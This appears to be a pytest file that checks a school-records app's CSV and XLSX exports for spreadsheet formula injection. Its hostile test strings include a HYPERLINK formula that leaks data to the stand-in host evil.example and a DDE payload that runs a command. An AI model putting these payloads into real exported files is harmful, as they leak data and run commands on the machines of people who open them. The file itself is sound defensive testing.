"""Exports write user text as text (ASVS 1.2.10, OWASP «CSV injection»): in one place,
``core/exports.py``, which every XLSX and CSV writer goes through. The exports of the plugins
are tested with hostile names in their own tests (reports, attendance, substitutions)."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.cell import WriteOnlyCell

from core import exports
from core.people import importer
from core.people.roles import Role
from tests.fixtures import ROOT

HOSTILE = ['=HYPERLINK("http://evil.example/?leak","ОП.04")', "+1", "-2", "@SUM(A1:A9)",
           "\t=1", "\r=1", "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_a_spreadsheet_would_run_gets_a_leading_apostrophe(text):
    assert exports.safe_cell(text) == "'" + text
    assert exports.plain_cell(exports.safe_cell(text)) == text


@pytest.mark.parametrize("value", ["Петров А. И.", "5", "н/а", "", "'quoted", "a=b", -2, 4.25,
                                   Decimal("-1.5"), 0, None, date(2026, 9, 1)])
def test_other_values_are_written_as_they_are(value):
    assert exports.safe_cell(value) == value
    if isinstance(value, str):
        assert exports.plain_cell(value) == value


def test_an_xlsx_row_keeps_text_as_text_and_numbers_as_numbers():
    for write_only in (False, True):
        book = Workbook(write_only=write_only)
        sheet = book.create_sheet("Лист") if write_only else book.active
        styled = WriteOnlyCell(sheet, value=HOSTILE[0])
        exports.append_row(sheet, [styled, *HOSTILE[1:], -2, 4.5, None])
        buffer = io.BytesIO()
        book.save(buffer)
        cells = next(load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0].iter_rows())
        assert [cell.data_type for cell in cells[:len(HOSTILE)]] == ["s"] * len(HOSTILE)
        assert [cell.value for cell in cells[:len(HOSTILE)]] == ["'" + text for text in HOSTILE]
        assert [cell.value for cell in cells[len(HOSTILE):]] == [-2, 4.5]
        assert cells[len(HOSTILE)].data_type == "n"


def test_a_csv_row_keeps_text_as_text():
    text = exports.csv_text([["Дисциплина", "Часов"], [HOSTILE[0], 36], ["-2", -2]])
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
    assert rows == [["Дисциплина", "Часов"], ["'" + HOSTILE[0], "36"], ["'-2", "-2"]]


WRITERS = re.compile(r"csv\.(writer|DictWriter)\(|\.writerows?\(|\b(sheet|ws|worksheet)\.append\("
                     r"|\.cell\([^)]*value=|\b(sheet|ws|worksheet)\[[^\]]+\]\s*=[^=]")


def test_every_export_writes_its_rows_through_core_exports():
    """A writer of its own would skip the neutralising: rows and cells are written only there."""
    found = []
    for path in sorted([*(ROOT / "core").rglob("*.py"), *(ROOT / "plugins").rglob("*.py")]):
        if "tests" in path.parts or path == ROOT / "core" / "exports.py":
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            if WRITERS.search(line):
                found.append(f"{path.relative_to(ROOT)}:{number}: {line.strip()}")
    assert found == []


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_file_this_app_exported_imports_back_as_written(app, fmt):
    """The apostrophe an export adds is taken off again by the import."""
    header = importer.template_header()
    example = ["ТМ-26", "26-001", "Смирнова", "Анна", "", "", "", "+7 916 123-45-67"]
    if fmt == "csv":
        data = exports.csv_text([header, example]).encode()
    else:
        book = Workbook()
        exports.append_row(book.active, header)
        exports.append_row(book.active, example)
        buffer = io.BytesIO()
        book.save(buffer)
        data = buffer.getvalue()
    with app.test_request_context():
        _header, rows = importer.read_table(data, f"students.{fmt}")
    assert rows[0][7] == "+7 916 123-45-67"


def test_the_import_template_goes_through_the_same_writer(client, make_user, login):
    login(make_user("template-admin", roles=[Role.ADMIN]))
    text = client.get("/admin/year/import/template.csv").get_data(as_text=True)
    assert not [cell for row in csv.reader(io.StringIO(text[1:]), delimiter=";") for cell in row
                if cell.startswith(exports.FORMULA_STARTS)]


def test_a_workbook_is_downloaded_as_an_xlsx_attachment_with_its_name(ctx):
    book = Workbook()
    exports.append_row(book.active, ["Иванов", 3])
    response = exports.xlsx_download(book, "substitutions-2026-09.xlsx")
    response.direct_passthrough = False
    assert response.mimetype == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    assert response.headers["Content-Disposition"] == (
        "attachment; filename=substitutions-2026-09.xlsx")
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    assert [cell.value for cell in sheet[1]] == ["Иванов", 3]
